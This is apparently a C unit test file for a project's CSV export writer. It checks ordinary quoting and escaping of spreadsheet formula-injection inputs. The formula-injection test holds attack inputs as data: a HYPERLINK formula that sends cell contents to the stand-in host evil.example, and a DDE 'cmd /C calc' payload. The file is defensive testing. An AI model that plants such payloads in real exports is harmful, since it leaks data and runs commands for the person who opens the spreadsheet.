/* test-csv.c: the CSV field writer every export uses.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include "portico-csv.h"

static char *
field (const char *text)
{
  GString *csv = g_string_new (NULL);

  portico_csv_append_field (csv, text);
  return g_string_free (csv, FALSE);
}

#define assert_field(text, expected) \
  G_STMT_START { \
    g_autofree char *out_ = field (text); \
    g_assert_cmpstr (out_, ==, expected); \
  } G_STMT_END

static void
test_quoting (void)
{
  assert_field (NULL, "");
  assert_field ("", "");
  assert_field ("plain", "plain");
  assert_field ("with, comma", "\"with, comma\"");
  assert_field ("say \"hi\"", "\"say \"\"hi\"\"\"");
  assert_field ("two\nlines", "\"two\nlines\"");
  /* Only the first character makes a formula. */
  assert_field ("a=b", "a=b");
  assert_field ("ann@example.com", "ann@example.com");
}

/* OWASP's CSV injection list: a provider-controlled value starting with any
 * of these is written with a leading single quote. */
static void
test_formula_injection (void)
{
  assert_field ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
  assert_field ("=1+2", "'=1+2");
  assert_field ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0");
  assert_field ("-2+3", "'-2+3");
  assert_field ("@SUM(A1:A2)", "'@SUM(A1:A2)");
  assert_field ("\t=1+2", "'\t=1+2");
  assert_field ("\r=1+2", "\"'\r=1+2\"");
  assert_field ("-", "'-");
  assert_field ("+", "'+");
  assert_field ("-1e5", "'-1e5");
  assert_field ("-1.2.3", "'-1.2.3");
}

/* A plain signed number is data, not a formula: refunds stay numbers. */
static void
test_signed_numbers (void)
{
  assert_field ("-12.50", "-12.50");
  assert_field ("+3", "+3");
  assert_field ("-0.5", "-0.5");
  assert_field ("42", "42");
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/csv/quoting", test_quoting);
  g_test_add_func ("/csv/formula-injection", test_formula_injection);
  g_test_add_func ("/csv/signed-numbers", test_signed_numbers);

  return g_test_run ();
}
